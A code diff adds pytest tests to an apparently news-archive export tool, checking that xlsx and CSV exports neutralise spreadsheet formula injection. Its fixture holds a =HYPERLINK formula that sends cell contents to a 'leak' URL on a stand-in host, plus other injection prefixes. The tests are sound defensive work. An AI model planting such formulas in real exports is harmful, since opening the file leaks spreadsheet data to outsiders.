@@ -127,3 +127,72 @@ def test_plugin_functions_refuse_huge_input(tmp_path, public):
         assert status == 200 and '"n": 1' in body, body
     finally:
         stop(proc)
+
+
+FORMULA_TITLE = '=HYPERLINK("http://127.0.0.1/leak?"&A1,"点击查看")'
+
+
+def formula_archive(path) -> None:
+    with Archive(path) as archive:
+        for i, title in enumerate([FORMULA_TITLE, "+1+2", "-3", "@SUM(A1)", "\t=1", "'=2", "普通标题"]):
+            archive.save_article({"url": f"http://www.example.gov.cn/art/{i}.html", "site": "example",
+                                  "title": title, "body": "正文", "content_hash": str(i), "published": "2025-03-01"})
+
+
+@pytest.mark.parametrize("value", [FORMULA_TITLE, "+1", "-3", "@x", "\t=1", "\r=1", "'=2", "''+3", "plain", "'plain"])
+def test_formula_neutralising_is_reversible(value):
+    from archive.safety import neutralise_formula, restore_formula
+
+    safe = neutralise_formula(value)
+    assert safe[:1] not in "=+-@\t\r" and restore_formula(safe) == value
+
+
+def test_exports_never_store_a_live_formula(tmp_path):
+    import csv
+    import io
+
+    from click.testing import CliRunner
+    from openpyxl import load_workbook
+
+    from archive.cli import cli as archive_cli
+    from archive.safety import restore_formula
+
+    db = tmp_path / "archive.db"
+    formula_archive(db)
+    runner = CliRunner()
+    assert runner.invoke(archive_cli, ["export", "--db", str(db), "--format", "xlsx", "--out", str(tmp_path / "a.xlsx")]).exit_code == 0
+    ws = load_workbook(tmp_path / "a.xlsx").active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    assert FORMULA_TITLE in [c.value for c in cells]  # kept verbatim, as text
+
+    def csv_titles(*extra: str) -> list[str]:
+        out = tmp_path / "a.csv"
+        done = runner.invoke(archive_cli, ["export", "--db", str(db), "--format", "csv", "--out", str(out), *extra])
+        assert done.exit_code == 0, done.output
+        return [r["title"] for r in csv.DictReader(io.StringIO(out.read_text("utf-8-sig")))]
+
+    titles = csv_titles()
+    assert not [t for t in titles if t[:1] in "=+-@\t\r"]
+    assert sorted(restore_formula(t) for t in titles) == sorted(csv_titles("--raw-formulas"))
+    assert FORMULA_TITLE in csv_titles("--raw-formulas")
+
+
+def test_datasette_csv_never_carries_a_live_formula(tmp_path):
+    import csv
+    import io
+    import urllib.request
+
+    db = tmp_path / "archive.db"
+    formula_archive(db)
+    proc, base = start_server([sys.executable, "-m", "archive.cli", "serve", "--db", str(db)])
+    try:
+        def titles(query: str) -> list[str]:
+            with urllib.request.urlopen(f"{base}/archive/articles.csv?_size=max{query}", timeout=60) as r:
+                return [row["title"] for row in csv.DictReader(io.StringIO(r.read().decode("utf-8-sig")))]
+
+        safe = titles("")
+        assert len(safe) == 7 and not [t for t in safe if t[:1] in "=+-@\t\r"]
+        assert FORMULA_TITLE in titles("&_raw_formulas=1")
+    finally:
+        stop(proc)
